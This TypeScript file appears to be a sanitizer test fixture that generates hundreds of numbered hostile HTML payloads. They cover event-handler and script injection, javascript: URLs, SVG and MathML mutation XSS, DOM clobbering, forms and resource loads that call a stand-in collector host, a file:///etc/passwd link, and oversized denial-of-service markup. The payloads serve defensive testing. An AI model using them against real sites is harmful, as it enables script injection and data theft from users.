/** A piece of HTML made to do harm, of a class of such pieces; `word` stands in it as text and must arrive all the same. */
export interface HostilePayload {
  readonly id: number;
  readonly kind: string;
  readonly word: string;
  readonly html: string;
  /** Too much to be read as markup: only its plain words may come in. */
  readonly huge: boolean;
}

/** What a payload calls when it gets to run, and where it would send something. */
type Piece = (hit: string, out: string) => string;

/** Every letter as a numeric entity. */
const entities = (text: string, form: 'decimal' | 'hex' | 'bare'): string =>
  Array.from(text, (sign) => (form === 'hex' ? `&#x${sign.charCodeAt(0).toString(16)};` : `&#${String(sign.charCodeAt(0)).padStart(form === 'bare' ? 7 : 1, '0')}${form === 'bare' ? '' : ';'}`)).join('');

const handlers: readonly Piece[] = [
  (hit) => `<img src=x onerror=${hit}>`,
  (hit) => `<img src=x onerror="${hit}" onerror=1>`,
  (hit) => `<img/src=x/onerror=${hit}//`,
  (hit) => `<img src="x" ONERROR='${hit}'>`,
  (hit) => `<img src=x onerror\n=\n"${hit}">`,
  (hit) => `<img src=x onerror\u000c=${hit}>`,
  (hit) => `<image src=x onerror=${hit}>`,
  (hit) => `<img srcset=",,x" onerror=${hit}>`,
  (hit) => `<picture><source srcset=x><img onerror=${hit} src=x></picture>`,
  (hit) => `<body onload=${hit}>`,
  (hit) => `<body onpageshow=${hit}>`,
  (hit) => `<p onclick=${hit} onmouseover=${hit} onfocus=${hit} tabindex=0 autofocus>near</p>`,
  (hit) => `<a href=# autofocus onfocus=${hit}>near</a>`,
  (hit) => `<div contenteditable autofocus onfocus=${hit}>near</div>`,
  (hit) => `<details open ontoggle=${hit}><summary>s</summary></details>`,
  (hit) => `<div style="animation:a 1ms" onanimationstart=${hit}>near</div><style>@keyframes a{}</style>`,
  (hit) => `<style>@keyframes b{to{left:1px}}</style><i style="position:relative;animation:b 1ms" onanimationend=${hit}>near</i>`,
  (hit) => `<div style="transition:color 1ms" ontransitionend=${hit}>near</div>`,
  (hit) => `<marquee onstart=${hit} loop=1 width=0>near</marquee>`,
  (hit) => `<video src=x onerror=${hit}></video>`,
  (hit) => `<video><source src=x onerror=${hit}></video>`,
  (hit) => `<audio src=x onerror=${hit}></audio>`,
  (hit) => `<object data=x onerror=${hit}></object>`,
  (hit) => `<embed src=x onerror=${hit} onload=${hit}>`,
  (hit) => `<iframe onload=${hit}></iframe>`,
  (hit) => `<link rel=stylesheet href=data:text/css, onload=${hit}>`,
  (hit) => `<style onload=${hit}></style>`,
  (hit) => `<script src=x onerror=${hit}></script>`,
  (hit) => `<input autofocus onfocus=${hit}>`,
  (hit) => `<select autofocus onfocus=${hit}><option>1</select>`,
  (hit) => `<textarea autofocus onfocus=${hit}>t</textarea>`,
  (hit) => `<button autofocus onfocus=${hit} popovertarget=p>b</button><div id=p popover onbeforetoggle=${hit}>p</div>`,
  (hit) => `<dialog open onclose=${hit} onfocus=${hit} autofocus>d</dialog>`,
  (hit) => `<div oncontentvisibilityautostatechange=${hit} style="content-visibility:auto;display:block">near</div>`,
  (hit) => `<div onscrollsnapchange=${hit} onwheel=${hit} onpointerrawupdate=${hit}>near</div>`,
];

const scripts: readonly Piece[] = [
  (hit) => `<script>${hit}</script>`,
  (hit) => `<SCRIPT>${hit}</SCRIPT>`,
  (hit) => `<script type=module>${hit}</script>`,
  (hit) => `<script\n>${hit}</script\n>`,
  (hit) => `<script/x>${hit}</script>`,
  (hit) => `<<script>${hit}//<</script>`,
  (hit) => `<scr<script>ipt>${hit}</scr</script>ipt>`,
  (hit) => `<script>/*<!--*/${hit}</script>-->`,
  (hit) => `<script><!--\n${hit}\n--></script>`,
  (hit) => `<script src="data:text/javascript,${hit}"></script>`,
  (_, out) => `<script src="${out}"></script>`,
  (hit) => `<script for=window event=onload>${hit}</script>`,
  (hit) => `<noscript><p title="</noscript><script>${hit}</script>"></noscript>`,
  (hit) => `</p></div></body><script>${hit}</script>`,
];

const addresses: readonly Piece[] = [
  (hit) => `<a href="javascript:${hit}">press</a>`,
  (hit) => `<a href="JaVaScRiPt:${hit}">press</a>`,
  (hit) => `<a href=" javascript:${hit}">press</a>`,
  (hit) => `<a href="\u0001javascript:${hit}">press</a>`,
  (hit) => `<a href="java\tscript:${hit}">press</a>`,
  (hit) => `<a href="java&#10;script:${hit}">press</a>`,
  (hit) => `<a href="java&Tab;script&colon;${hit}">press</a>`,
  (hit) => `<a href="${entities('javascript:', 'decimal')}${hit}">press</a>`,
  (hit) => `<a href="${entities('javascript:', 'hex')}${hit}">press</a>`,
  (hit) => `<a href="${entities('javascript:', 'bare')}${hit}">press</a>`,
  (hit) => `<a href="javascript&#58;${hit}">press</a>`,
  (hit) => `<a href="javascript://harbour.example/%0a${hit}">press</a>`,
  (hit) => `<a href="javascript:javascript:${hit}">press</a>`,
  (hit) => `<a href="vbscript:${hit}">press</a>`,
  (hit) => `<a href="data:text/html,<script>${hit}</script>">press</a>`,
  (hit) => `<a href="data:text/html;base64,${Buffer.from(`<script>${hit}</script>`).toString('base64')}">press</a>`,
  (hit) => `<a href="blob:null/${hit}">press</a>`,
  () => '<a href="file:///etc/passwd">press</a>',
  () => '<a href="smb://collector.invalid/share">press</a>',
  () => '<a href="vscode://collector.invalid/run">press</a>',
  () => '<a href="app://desk/index.html">press</a>',
  () => '<a href="\\\\collector.invalid\\share">press</a>',
  (hit) => `<a xlink:href="javascript:${hit}">press</a>`,
  (hit) => `<a href="https://harbour.example/" target=_blank onclick=${hit} ping=PING>press</a>`.replace('PING', '"https://collector.invalid/ping"'),
  (hit) => `<area href="javascript:${hit}" shape=default><map name=m></map>`,
  (hit) => `<a href="https:javascript:${hit}">press</a>`,
  (hit) => `<a href="https://harbour.example\u200b/\u202ejavascript:${hit}">press</a>`,
  (hit) => `<iframe src="javascript:${hit}"></iframe>`,
  (hit) => `<iframe src=" java&Tab;script:${hit}"></iframe>`,
  (hit) => `<object data="javascript:${hit}"></object>`,
  (hit) => `<embed src="javascript:${hit}">`,
  (hit) => `<form action="javascript:${hit}"><button autofocus>send</button></form>`,
  (hit) => `<button formaction="javascript:${hit}" form=f>send</button><form id=f></form>`,
];

const drawings: readonly Piece[] = [
  (hit) => `<svg onload=${hit}>`,
  (hit) => `<svg/onload=${hit}>`,
  (hit) => `<svg><script>${hit}</script></svg>`,
  (hit) => `<svg><script href="data:text/javascript,${hit}"/></svg>`,
  (hit) => `<svg><script>&#${'top'.charCodeAt(0)};${hit.slice(1)}</script></svg>`,
  (hit) => `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  (hit) => `<svg><set onbegin=${hit} attributeName=x to=1>`,
  (hit) => `<svg><a><animate attributeName=href values="javascript:${hit}" /><text x=9 y=9>press</text></a></svg>`,
  (hit) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror='${hit}'/></svg>#x"></svg>`,
  (hit) => `<svg><image href=x onerror=${hit}></svg>`,
  (hit) => `<svg><foreignObject><img src=x onerror=${hit}></foreignObject></svg>`,
  (hit) => `<svg><foreignObject><iframe srcdoc="<script>${hit}</script>"></iframe></foreignObject></svg>`,
  (hit) => `<svg><title><img src=x onerror=${hit}></title></svg>`,
  (hit) => `<svg><desc><img src=x onerror=${hit}></desc></svg>`,
  (hit) => `<svg><style><img src=x onerror=${hit}></style></svg>`,
  (hit) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${hit}</handler></svg>`,
  (_, out) => `<svg><image href="${out}" /><feImage href="${out}" /></svg>`,
  (_, out) => `<svg><use href="${out}#x" /></svg>`,
  (hit) => `<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:${hit}"><circle r=99 /></a></svg>`,
];

const formulas: readonly Piece[] = [
  (hit) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;">`,
  (hit) => `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;img src=x onerror=${hit}&gt;">`,
  (hit) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${hit}></annotation-xml></math>`,
  (hit) => `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${hit}>">`,
  (hit) => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${hit}">press</maction></math>`,
  (hit) => `<math href="javascript:${hit}">press</math>`,
  (hit) => `<math><mi><img src=x onerror=${hit}></mi></math>`,
  (hit) => `<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><svg onload=${hit}></svg></annotation-xml></semantics></math>`,
];

const mutations: readonly Piece[] = [
  (hit) => `<noscript><style></noscript><img src=x onerror=${hit}>`,
  (hit) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hit}>`,
  (hit) => `<svg></p><style><a id="</style><img src=x onerror=${hit}>">`,
  (hit) => `<svg><p><style><g title="</style><img src=x onerror=${hit}>">`,
  (hit) => `<select><template><style><!--</template></select><img src=x onerror=${hit}>--></style>`,
  (hit) => `<table><svg><style><a title="</style><img src=x onerror=${hit}>"></table>`,
  (hit) => `<p title="</p><img src=x onerror=${hit}>">near</p>`,
  (hit) => `<p title='"><img src=x onerror=${hit}>'>near</p>`,
  (hit) => `<p title=\`"><img src=x onerror=${hit}>\`>near</p>`,
  (hit) => `<xmp><p title="</xmp><img src=x onerror=${hit}>"></xmp>`,
  (hit) => `<textarea><p title="</textarea><img src=x onerror=${hit}>"></textarea>`,
  (hit) => `<title><p title="</title><img src=x onerror=${hit}>"></title>`,
  (hit) => `<noembed><p title="</noembed><img src=x onerror=${hit}>"></noembed>`,
  (hit) => `<noframes><p title="</noframes><img src=x onerror=${hit}>"></noframes>`,
  (hit) => `<iframe><p title="</iframe><img src=x onerror=${hit}>"></iframe>`,
  (hit) => `<plaintext><img src=x onerror=${hit}>`,
  (hit) => `<listing>&lt;img src=x onerror=${hit}&gt;</listing>`,
  (hit) => `<a href="x" <img src=x onerror=${hit}>>near</a>`,
  (hit) => `<div><template shadowrootmode=open><img src=x onerror=${hit}></template></div>`,
];

const comments: readonly Piece[] = [
  (hit) => `<!--><img src=x onerror=${hit}>-->`,
  (hit) => `<!---><img src=x onerror=${hit}>-->`,
  (hit) => `<!-- --!><img src=x onerror=${hit}>-->`,
  (hit) => `<!--<img src="--><img src=x onerror=${hit}//">`,
  (hit) => `<![CDATA[><img src=x onerror=${hit}>]]>`,
  (hit) => `<?xml version="1.0"?><img src=x onerror=${hit}>`,
  (hit) => `<?x ><img src=x onerror=${hit}>?>`,
  (hit) => `<!doctype x [<!entity y "<img src=x onerror=${hit}>">]>&y;`,
  (hit) => `<!--[if gte IE 4]><script>${hit}</script><![endif]-->`,
  (hit) => `<![if !supportLists]><img src=x onerror=${hit}><![endif]>`,
  (hit) => `</ x><img src=x onerror=${hit}>`,
  (hit) => `<xss:x xmlns:xss="urn:x"><img src=x onerror=${hit}></xss:x>`,
  (hit) => `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${hit}</html:script>`,
  (hit) => `&lt;script&gt;${hit}&lt;/script&gt;`,
  (hit) => `\u0000<scr\u0000ipt>${hit}</scr\u0000ipt>`,
];

const pages: readonly Piece[] = [
  (_, out) => `<meta http-equiv=refresh content="0;url=${out}">`,
  (hit) => `<meta http-equiv=refresh content="0;url=javascript:${hit}">`,
  (hit) => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${hit}</script>`,
  () => '<meta http-equiv=Set-Cookie content="x=1">',
  (_, out) => `<base href="${out}/"><img src=relative.png>`,
  (hit) => `<base href="javascript:/x/;${hit}//"><a href="#">press</a>`,
  (_, out) => `<link rel=stylesheet href="${out}">`,
  (_, out) => `<link rel=prefetch href="${out}"><link rel=preload as=image href="${out}/p"><link rel=dns-prefetch href="${out}"><link rel=modulepreload href="${out}/m">`,
  (_, out) => `<link rel="shortcut icon" href="${out}"><link rel=manifest href="${out}">`,
  (_, out) => `<style>@import "${out}";</style>`,
  (_, out) => `<style>body{background:url(${out})}p{list-style-image:url(${out}/l)}@font-face{font-family:x;src:url(${out}/f)}*{font-family:x}</style>`,
  (_, out) => `<p style="background-image:url(${out});list-style:url(${out}/l)">near</p>`,
  (_, out) => `<p style="background:\\75rl(${out})">near</p>`,
  (_, out) => `<p style="cursor:url(${out}),auto;content:url(${out}/c);border-image:url(${out}/b)">near</p>`,
  (hit) => `<p style="width:expression(${hit});behavior:url(x);-moz-binding:url(x)">near</p>`,
  () => '<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>',
  () => '<style>*{display:none!important}</style>',
  (_, out) => `<table background="${out}"><tr><td background="${out}/td">near</td></tr></table>`,
  (_, out) => `<img src="${out}" loading=eager><img srcset="${out}/2x 2x"><input type=image src="${out}/i">`,
  (_, out) => `<video poster="${out}" src="${out}/v" autoplay></video><audio src="${out}/a" autoplay></audio><track src="${out}/t">`,
  (_, out) => `<iframe src="${out}"></iframe><frame src="${out}"><frameset><frame src="${out}/f"></frameset>`,
  (hit) => `<iframe srcdoc="<script>${hit}</script>"></iframe>`,
  (hit) => `<iframe srcdoc="&lt;img src=x onerror=${hit}&gt;" sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>`,
  (_, out) => `<object data="${out}" type=text/html></object><embed src="${out}/e" type=text/html><applet code=x codebase="${out}/c"></applet>`,
  (_, out) => `<portal src="${out}"></portal><fencedframe src="${out}/f"></fencedframe><webview src="${out}/w"></webview>`,
  (_, out) => `<html manifest="${out}"><head profile="${out}/p"></head></html>`,
  (_, out) => `<q cite="${out}">near</q><del cite="${out}/d">gone</del><blockquote cite="${out}/b">said</blockquote>`,
];

const clobbers: readonly Piece[] = [
  () => '<form><input name=parentNode>123</form>',
  () => '<form><input name=attributes><input name=nodeName><input name=childNodes></form>',
  () => '<form id=f><input name=removeChild><input name=firstChild><input name=nextSibling><input name=tagName></form>',
  () => '<form><input name=innerHTML><input name=textContent><input name=ownerDocument><input name=namespaceURI></form>',
  () => '<img name=body><img name=head><img name=documentElement><img name=createElement><img name=implementation>',
  () => '<form name=document><input name=cookie></form><a id=location href="https://collector.invalid/">x</a>',
  () => '<a id=copydesk></a><a id=copydesk name=invoke href="https://harbour.example/">x</a>',
  () => '<form id=copydesk><output name=invoke>x</output></form><form id=copydesk name=on></form>',
  () => '<iframe name=copydesk srcdoc="<a id=invoke></a>"></iframe>',
  () => '<a id=trustedTypes name=createPolicy>x</a><a id=DOMPurify name=sanitize>y</a>',
  () => '<img id=hasOwnProperty><img id=toString><img id=__proto__><img name=constructor>',
  () => '<form><fieldset name=elements><input name=length></fieldset></form>',
  () => '<object name=fetch></object><embed name=XMLHttpRequest><form name=getSelection></form>',
  () => '<div id=root><div id=app></div></div><main><article>false window</article></main>',
];

const forms: readonly Piece[] = [
  (_, out) => `<form action="${out}" method=post><input type=submit autofocus><input name=a value=b></form>`,
  (_, out) => `<form id=x></form><input form=x formaction="${out}" type=submit>`,
  (hit) => `<form onsubmit=${hit} onformdata=${hit}><input required oninvalid=${hit}></form>`,
  (hit) => `<form><input type=file onchange=${hit}><input type=password autocomplete=current-password></form>`,
  (_, out) => `<form action="${out}" target=_top><keygen name=k><isindex action="${out}/i"></form>`,
  () => '<label for=x>press</label><input type=checkbox id=x><meter value=1></meter><progress></progress><datalist id=d><option>1</datalist>',
];

const customs: readonly Piece[] = [
  (hit) => `<x-y onclick=${hit} onfocus=${hit} tabindex=0 autofocus>near</x-y>`,
  (hit) => `<x-y is="img" src=x onerror=${hit}>near</x-y>`,
  (hit) => `<button is="x-z" onfocus=${hit} autofocus>near</button>`,
  (hit) => `<template><script>${hit}</script><img src=x onerror=${hit}></template>`,
  (hit) => `<div><slot name=a onslotchange=${hit}></slot><template shadowrootmode=closed><slot></slot></template></div>`,
  (hit) => `<xss onpointerenter=${hit} style="display:block;position:fixed;inset:0">near</xss>`,
];

/** Pieces that want to stop the window by their size. */
const giants: readonly Piece[] = [
  (hit) => `${'<b><div><i>'.repeat(1000)}deep<img src=x onerror=${hit}>`,
  (hit) => `${'<div>'.repeat(100_000)}deep<img src=x onerror=${hit}>`,
  () => '<b>'.repeat(50_000),
  () => `${'<table><tr><td>'.repeat(3000)}deep`,
  () => `${'<ul><li>'.repeat(3000)}deep`,
  () => `${'<blockquote>'.repeat(3000)}deep`,
  (hit) => `<p title="${'x'.repeat(2_000_000)}" onclick=${hit}>near</p>`,
  () => `<p ${'a '.repeat(200_000)}>near</p>`,
  () => `<p style="${'color:red;'.repeat(190_000)}">near</p>`,
  () => '<i>x</i>'.repeat(60_000),
  () => `<table>${'<tr><td colspan=1000 rowspan=60000>x</td></tr>'.repeat(50)}</table>`,
  () => `<a href="https://harbour.example/${'a'.repeat(1_500_000)}">press</a>`,
  () => `<!--${'-'.repeat(1_900_000)}`,
  () => `${'<svg><foreignObject>'.repeat(5000)}deep`,
  () => '&amp;lt;'.repeat(200_000),
  () => `<p>${'\u00a0'.repeat(500_000)}near</p>`,
  () => `<p>${'a\u0301'.repeat(1)}${'\u0301'.repeat(300_000)}</p>`,
  () => `${'<a href="#n1">1</a>'.repeat(4000)}<p id=n1><a href="#x">1</a></p>`,
];

const kinds: Readonly<Record<string, readonly Piece[]>> = { handler: handlers, script: scripts, address: addresses, svg: drawings, mathml: formulas, mutation: mutations, comment: comments, page: pages, clobber: clobbers, form: forms, custom: customs, giant: giants };

/** The payloads, each with a number and a word of its own. `outside` is where they would send something: an address without a `/` at its end. */
export function hostilePayloads(outside: string): readonly HostilePayload[] {
  return Object.entries(kinds).flatMap(([kind, pieces]) => pieces.map((piece) => ({ kind, piece }))).map(({ kind, piece }, id) => {
    const word = `pebble${String.fromCharCode(97 + Math.floor(id / 26), 97 + (id % 26))}`;
    return { id, kind, word, huge: kind === 'giant', html: `<p>${word}</p>${piece(`top.hits.push(${id})`, `${outside}/${id}`)}` };
  });
}
